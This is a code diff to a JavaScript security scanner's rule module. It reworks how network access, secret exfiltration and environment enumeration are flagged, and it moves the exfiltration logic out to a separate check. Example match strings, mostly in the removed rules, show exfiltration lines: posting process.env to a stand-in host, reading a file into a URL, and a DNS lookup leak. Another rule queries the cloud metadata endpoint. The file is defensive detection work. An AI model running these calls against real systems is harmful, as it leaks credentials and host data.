@@ -7,6 +7,7 @@ from collections.abc import Iterator
 
 from engine.analysis.javascript.declare import HIGH, LOW, MEDIUM, SECRETS, found, rule
 from engine.analysis.javascript.model import JavaScriptCall, Program
+from engine.analysis.javascript.rules.outgoing import leaves
 from engine.analysis.javascript.values import UNKNOWN
 from engine.models import Confidence, Level, Violation
 
@@ -16,7 +17,10 @@ NETWORK = rule(
     "net_access",
     MEDIUM,
     attack="Reports to an attacker, or fetches instructions.",
-    why="MEDIUM: the sandbox has no network unless it is granted; LOW where the other end is this machine.",
+    why=(
+        "MEDIUM: the sandbox has no network unless it is granted; LOW where the other end is this machine "
+        "or a named host is read from; HIGH for the container engine."
+    ),
     fix="Request the domain as a permission.",
     match=(
         "fetch('https://x.test/a')",
@@ -40,26 +44,6 @@ LISTENER = rule(
     not_match=("bus.listen(f)", "element.addEventListener('x', f)"),
     cwe=923,
 )
-EXFILTRATION = rule(
-    "js-exfiltration",
-    "Sends secrets or files to another machine",
-    "exfil_upload",
-    HIGH,
-    attack="Sends the environment, files or facts about the machine to the attacker's server.",
-    why="HIGH: data that has left cannot be recalled.",
-    fix="Leave results in the workspace, where they are collected.",
-    match=(
-        "fetch('https://x.test', { method: 'POST', body: JSON.stringify(process.env) })",
-        "require('https').get('https://x.test/?' + require('fs').readFileSync('a'))",
-        "require('dns').lookup(require('os').hostname() + '.x.test', f)",
-    ),
-    not_match=(
-        "fetch('https://x.test', { body: JSON.stringify({ a: 1 }) })",
-        "console.log(process.env.HOME)",
-    ),
-    cwe=200,
-    owasp=SECRETS,
-)
 METADATA = rule(
     "js-cloud-metadata",
     "Queries the cloud metadata service",
@@ -71,25 +55,6 @@ METADATA = rule(
     match=("fetch('http://169.254.169.254/latest/meta-data/')",),
     not_match=("fetch('http://169.1.1.1/')",),
     cwe=918,
-    owasp=SECRETS,
-)
-ENVIRONMENT = rule(
-    "js-environment",
-    "Reads the whole environment",
-    "secrets_env",
-    MEDIUM,
-    attack="Collects every token in the environment variables.",
-    why="MEDIUM: the environment of the sandbox is nearly empty; LOW for a single variable.",
-    fix="Read only the variable that is needed.",
-    match=(
-        "JSON.stringify(process.env)",
-        "const all = { ...process.env }",
-        "Object.keys(process.env)",
-        "for (const k in process.env) f(k)",
-        "console.log(process.env)",
-    ),
-    not_match=("process.env.HOME", "const { HOME } = process.env", "process.argv"),
-    cwe=526,
     owasp=SECRETS,
 )
 HOST_FACTS = rule(
@@ -163,7 +128,6 @@ TALKS = re.compile(
     r"|mqtt\.connect|amqplib\.connect|discord\.js\.\w+|telegraf)$|^dns\.(?:promises\.)?(?:lookup"
     r"|resolve\w*|reverse)$|^Deno\.connect|^Bun\.connect"
 )
-_SENDS = re.compile(r"^net\.|^tls\.|^ws\b|\.(?:write|send|end|emit|sendMessage|sendMail|post|put)$")
 _DIGEST = re.compile(r"^crypto\.(?:createHash|createHmac|createCipher\w*|createDecipher\w*|createSign)$")
 _OLD_CIPHER = re.compile(r"^crypto\.create(?:De)?[cC]ipher$")
 _LISTENS = re.compile(
@@ -172,7 +136,13 @@ _LISTENS = re.compile(
 )
 _LOCAL = re.compile(r"^(?:\w+:)?(?://)?(?:localhost|127\.|\[?::1|0\.0\.0\.0)|^/(?!/)|^\.{1,2}/|^$")
 _METADATA = re.compile(r"169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|169\.254\.170\.2")
-_SECRET = frozenset({"env", "file", "secret", "host", "output"})
+_READING = re.compile(
+    r"^(?:fetch|axios|got|ky|needle|superagent|request|node-fetch|undici|https?|dns)(?:\.(?:promises\.)?"
+    r"(?:get|head|fetch|request|lookup|resolve\w*))?$"
+)
+_NAMED = re.compile(r"^(?:https?://)?[\w-]+(?:\.[\w-]+)*\.[a-z]{2,}(?:[:/?#]|$)", re.IGNORECASE)
+"""The name of a host, before anything that is known only at run time."""
+_HAS_BODY = re.compile(r"(?i)\bbody\s*:|\bmethod\s*:\s*['\"`](?:post|put|patch|delete)")
 _HOST = re.compile(
     r"^os\.(?:userInfo|networkInterfaces|hostname|cpus|homedir|platform|arch|release|type|version"
     r"|uptime|totalmem|freemem|loadavg|machine|endianness)$|^dns\.getServers$"
@@ -192,8 +162,6 @@ def check(program: Program) -> Iterator[Violation]:
             yield from _talks(program, call)
         elif _LISTENS.match(call.path):
             yield found(LISTENER, program, call)
-        elif _SENDS.search(call.path) and "network" in call.target.taints and call.taints & _SECRET:
-            yield found(EXFILTRATION, program, call)
         elif _HOST.match(call.path):
             host.append(call)
         elif _LISTS.match(call.path):
@@ -204,7 +172,6 @@ def check(program: Program) -> Iterator[Violation]:
     else:
         for call in host:
             yield found(HOST_FACTS, program, call, severity=LOW)
-    yield from _environment(program)
     yield from _settings(program)
 
 
@@ -213,13 +180,19 @@ def _talks(program: Program, call: JavaScriptCall) -> Iterator[Violation]:
     whole = program.tree.of(call.node)
     if _METADATA.search(address) or _METADATA.search(whole):
         yield found(METADATA, program, call)
-    if call.taints & _SECRET and not call.path.startswith("importScripts"):
-        yield found(EXFILTRATION, program, call)
-    else:
-        yield found(NETWORK, program, call, severity=_reach(call, address))
+    if "docker.sock" in whole:
+        yield found(NETWORK, program, call, "Controls the container engine", HIGH)
+    elif leaves(program, call) is None:
+        yield found(NETWORK, program, call, severity=_reach(program, call, address))
 
 
-def _reach(call: JavaScriptCall, address: str) -> Level | None:
+def _reach(program: Program, call: JavaScriptCall, address: str) -> Level | None:
+    if (
+        _READING.search(call.path)
+        and _NAMED.match(address)
+        and not _HAS_BODY.search(program.tree.of(call.node))
+    ):
+        return LOW
     if call.arg(0).kind == "text" and _LOCAL.match(address):
         return LOW
     known = call.arg(1).kind == "text" and _LOCAL.match(call.arg(1).text)
@@ -227,24 +200,8 @@ def _reach(call: JavaScriptCall, address: str) -> Level | None:
 
 
 def _listed(program: Program, call: JavaScriptCall) -> Iterator[Violation]:
-    if any(arg.path == "process.env" for arg in call.args):
-        yield found(ENVIRONMENT, program, call)
-    elif call.path in {"JSON.stringify", "querystring.stringify"} and "host" in call.taints:
+    if call.path in {"JSON.stringify", "querystring.stringify"} and "host" in call.taints:
         yield found(HOST_FACTS, program, call, "Serialises")
-
-
-def _environment(program: Program) -> Iterator[Violation]:
-    for node, scope in program.names.of("spread_element", "for_statement"):
-        inner = node.named_children[-1] if node.type == "spread_element" and node.named_children else None
-        if inner is not None and program.resolver.path(inner, scope) == "process.env":
-            yield ENVIRONMENT.violation(program.tree.span(node), program.text(node))
-    text = program.tree.text
-    for match in (
-        re.finditer(r"\b(?:in|of)\s+(?:Object\.\w+\()?process\.env\b(?!\s*[.\[])", text)
-        if "process.env" in text
-        else ()
-    ):
-        yield ENVIRONMENT.violation(program.tree.lines.span(*match.span()), "Enumerates process.env")
 
 
 def _weak(program: Program, call: JavaScriptCall) -> Iterator[Violation]:
